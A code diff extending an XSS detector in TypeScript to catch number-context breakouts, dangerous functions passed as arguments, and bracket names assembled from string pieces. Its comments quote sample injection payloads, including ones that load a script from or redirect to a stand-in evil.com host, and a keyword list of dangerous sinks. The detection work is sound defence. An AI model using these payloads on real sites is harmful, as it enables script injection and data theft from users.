@@ -2466,6 +2466,11 @@ const BO_SET_K = 4;
 /** Assigned as a member only (`s.src=`, `x.innerHTML=`): a variable of that name does nothing. */
 const BO_MEMBER_SET_K = 8;
 /**
+ * Also harmful passed as a function value (`';Reflect.apply(alert,null,[1])//`, `';setTimeout(eval,0,…)//`):
+ * an argument of its own, between `(` or `,` and `,` or `)`.
+ */
+const BO_VALUE_K = 16;
+/**
  * The BO_* names as a trie over ASCII (BO_NEXT: state × 128 → next state, 0 = none; BO_KIND: the
  * kinds of the name ending at a state). An identifier is walked one table read per character and
  * left at its first character no name continues with: no map lookup, no slice. (With maps by first
@@ -2481,6 +2486,7 @@ const BO_TRIE = ((): { next: Uint16Array; kind: Uint8Array } => {
     [BO_REF_K, 'localStorage sessionStorage indexedDB XMLHttpRequest'],
     [BO_SET_K, 'location onerror onload'],
     [BO_MEMBER_SET_K, 'src href action innerHTML outerHTML'],
+    [BO_VALUE_K, 'alert prompt confirm eval Function'],
   ];
   let states = 1;
   for (const [, names] of lists) states += names.replaceAll(' ', '').length;
@@ -2528,14 +2534,53 @@ function quoteHead(s: string): boolean {
   return isQuote(s.charCodeAt(k));
 }
 
+/**
+ * The value may open a number-context breakout (breakoutFrame): blanks, up to 20 digits (one leading
+ * minus), `)` or `]`, then numberJoin, and a `//` somewhere after. O(1) but for one native indexOf,
+ * paid only by values such as `1;x`.
+ */
+function numberHead(s: string): boolean {
+  const n = s.length;
+  let k = 0;
+  while (k < n && k < 8 && s.charCodeAt(k) <= 32) k++;
+  const d0 = k;
+  if (s.charCodeAt(k) === 45) k++;
+  const d1 = k;
+  while (k < n && k - d0 <= 20 && isDigit(s.charCodeAt(k))) k++;
+  if (k === d1 || k - d0 > 20) return false;
+  while (k < n && k - d0 < 24 && (s.charCodeAt(k) === 41 || s.charCodeAt(k) === 93)) k++;
+  return numberJoin(s, k) && s.indexOf('//', k + 1) !== -1;
+}
+
+/**
+ * After a number, what ends its statement and starts code: `;` glued to the number and to an
+ * identifier (`1;import(…)`). A number context gives less away than a closed quote (`10 - open(file)
+ * //TODO`, `2024-01-01 fetch() //` are notes), so neither a blank nor another operator is taken. O(1).
+ */
+function numberJoin(s: string, k: number): boolean {
+  const c = s.charCodeAt(k + 1);
+  return s.charCodeAt(k) === 59 && c < 128 && isIdentChar(c) && !isDigit(c);
+}
+
 function breakoutFrame(s: string): number {
   const n = s.length;
   let k = 0;
   while (k < n && k < 8 && s.charCodeAt(k) <= 32) k++;
   while (k < n && k < 10 && s.charCodeAt(k) === 92) k++;
-  const q = s.charCodeAt(k);
-  if (!isQuote(q)) return -1;
-  k++;
+  let q = s.charCodeAt(k);
+  if (!isQuote(q)) {
+    // A number context (`var id = <value>;`): `1;import('//evil.com/x.js')//`. Digits only (at most
+    // 20, one optional leading minus), closed by a `//` comment only: no string was open to reopen.
+    const d0 = k;
+    if (q === 45) k++;
+    while (k < n && k - d0 <= 20 && isDigit(s.charCodeAt(k))) k++;
+    if (k === d0 || !isDigit(s.charCodeAt(k - 1)) || k - d0 > 20) return -1;
+    while (k < n && k - d0 < 24 && (s.charCodeAt(k) === 41 || s.charCodeAt(k) === 93)) k++;
+    if (!numberJoin(s, k)) return -1;
+    q = -1;
+  } else {
+    k++;
+  }
   let stop = Math.min(n, k + 8);
   for (let comments = 0; ; comments++) {
     while (k < stop) {
@@ -2560,7 +2605,7 @@ function breakoutFrame(s: string): number {
   while (e > head && s.charCodeAt(e - 1) <= 32) e--;
   if (e <= head) return -1;
   // Reopened string: `…+'`, `…;var a='`, `…('`.
-  if (s.charCodeAt(e - 1) === q) {
+  if (q !== -1 && s.charCodeAt(e - 1) === q) {
     let j = e - 2;
     while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
     const c = j >= head ? s.charCodeAt(j) : -1;
@@ -2623,6 +2668,9 @@ function scanBreakoutStatement(s: string, best: Best): boolean {
     // `éfetch(` is judged as `fetch(`, which only errs towards reporting.)
     prevId = false;
     st = -1;
+  }
+  if (bracketBreakoutName(s, a, b)) {
+    return best.add('js-breakout', 'high', 'A string breakout into code that sets or reads a capability by a built name (window[\'loc\'+\'ation\']=…).');
   }
   return false;
 }
@@ -2698,8 +2746,84 @@ function judgeBreakoutName(s: string, a: number, e: number, b: number, kind: num
     ((d === 40 || d === 96) && (kind & BO_CALL_K) !== 0) ||
     (isRefFollower(d) && (kind & BO_REF_K) !== 0) ||
     ((assign || (d === 46 && f === e)) && (kind & BO_SET_K) !== 0) ||
-    (assign && a > 0 && s.charCodeAt(a - 1) === 46 && (kind & BO_MEMBER_SET_K) !== 0)
+    (assign && a > 0 && s.charCodeAt(a - 1) === 46 && (kind & BO_MEMBER_SET_K) !== 0) ||
+    ((d === 44 || d === 41) && (kind & BO_VALUE_K) !== 0 && argStart(s, a))
   );
+}
+
+/** `(` or `,` before `a`, past up to 4 blanks: the name at `a` starts an argument. O(1). */
+function argStart(s: string, a: number): boolean {
+  let p = a - 1;
+  while (p >= 0 && a - p <= 4 && (s.charCodeAt(p) === 32 || s.charCodeAt(p) === 9)) p--;
+  const c = p >= 0 ? s.charCodeAt(p) : -1;
+  return c === 40 || c === 44;
+}
+
+/** Roots whose bracket members a breakout sets or reads by a built name (`window['loc'+'ation']=`). */
+const BO_ROOTS = new Set(['window', 'self', 'top', 'parent', 'frames', 'globalThis', 'document', 'this']);
+
+/**
+ * `';window['loc'+'ation']='//evil.com'//`, `';x['inner'+'HTML']=…//`: inside a breakout frame
+ * [a, b), a bracket member whose name is quoted pieces joined by `+` spells a BO_* name, judged as the
+ * dotted member would be (a BO_SET or BO_REF name on a global root or document, a BO_MEMBER_SET name
+ * assigned on any object, a BO_CALL name called). Each `[` is read once, its name at most 96
+ * characters (no escapes: a backslash gives up): linear in the frame.
+ */
+function bracketBreakoutName(s: string, a: number, b: number): boolean {
+  const next = BO_TRIE.next;
+  for (let o = s.indexOf('[', a); o !== -1 && o < b; o = s.indexOf('[', o + 1)) {
+    let k = o + 1;
+    const lim = Math.min(b, o + 97);
+    let st = 0;
+    let close = -1;
+    let pieces = 0;
+    while (k < lim && st !== -1) {
+      const c = s.charCodeAt(k);
+      if (c === 32 || c === 9) {
+        k++;
+        continue;
+      }
+      if (c === 93 && pieces > 0) {
+        close = k;
+        break;
+      }
+      if (c === 43 && pieces > 0) {
+        k++;
+        continue;
+      }
+      if (c !== 39 && c !== 34 && c !== 96) break;
+      // One quoted piece, walked along the trie.
+      let j = k + 1;
+      while (j < lim && s.charCodeAt(j) !== c && st !== -1) {
+        const d = s.charCodeAt(j);
+        const nx = d < 128 && d !== 92 ? (next[st * 128 + d] as number) : 0;
+        st = nx === 0 ? -1 : nx;
+        j++;
+      }
+      if (j >= lim || st === -1) break;
+      pieces++;
+      k = j + 1;
+    }
+    if (close === -1 || st <= 0) continue;
+    const kind = BO_TRIE.kind[st] as number;
+    if (kind === 0) continue;
+    let r = o;
+    while (r > a && o - r < 12 && isIdentChar(s.charCodeAt(r - 1))) r--;
+    const rooted = r < o && BO_ROOTS.has(s.slice(r, o));
+    let f = close + 1;
+    while (f < b && f - close < 5 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
+    const d = f < b ? s.charCodeAt(f) : -1;
+    const assign = d === 61 && s.charCodeAt(f + 1) !== 61;
+    if (
+      ((d === 40 || d === 96) && (kind & BO_CALL_K) !== 0) ||
+      (rooted && isRefFollower(d) && (kind & BO_REF_K) !== 0) ||
+      (rooted && (assign || d === 46) && (kind & BO_SET_K) !== 0) ||
+      (assign && (kind & BO_MEMBER_SET_K) !== 0)
+    ) {
+      return true;
+    }
+  }
+  return false;
 }
 
 /** AngularJS (and other client-side template) expressions that reach the Function constructor. */
@@ -3160,8 +3284,10 @@ export function detectXss(value: string): Detection | undefined {
     !(f & (F_PAREN | F_BACKTICK) && need & (N_SINK | N_INDIRECT)) &&
     !(f & F_BRACE && need & (N_TPL | N_JSENT)) &&
     !(need & N_DOM) &&
-    // (scanBreakoutStatement: a value that starts with a quote; at most 10 characters read.)
-    !quoteHead(value)
+    // (scanBreakoutStatement: a value that starts with a quote, or a number glued to `;` and a name;
+    // at most ~40 characters read, and an indexOf of `//` after such a number.)
+    !quoteHead(value) &&
+    !numberHead(value)
   ) {
     return undefined; // no scan below can fire
   }
@@ -3263,6 +3389,6 @@ export function detectXss(value: string): Detection | undefined {
     if (f & F_AMP && need & N_JSENT && scanJsEntities(s, best)) return best.hit;
   }
   if (roots !== undefined && scanDom(s, best, spans, roots)) return best.hit;
-  if (!best.high && quoteHead(s) && scanBreakoutStatement(s, best)) return best.hit;
+  if (!best.high && (quoteHead(s) || numberHead(s)) && scanBreakoutStatement(s, best)) return best.hit;
   return best.hit;
 }
